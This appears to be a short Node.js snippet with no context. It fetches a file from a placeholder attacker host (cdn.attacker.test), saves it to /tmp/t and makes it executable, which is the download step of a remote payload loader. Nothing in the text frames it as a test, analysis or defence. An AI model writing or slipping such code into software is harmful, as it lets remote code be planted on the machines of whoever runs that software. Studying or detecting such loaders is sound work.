const fs = require("fs");
fetch("https://cdn.attacker.test/t").then((r) => r.text()).then((t) => { fs.writeFileSync("/tmp/t", t); fs.chmodSync("/tmp/t", 0o755); });
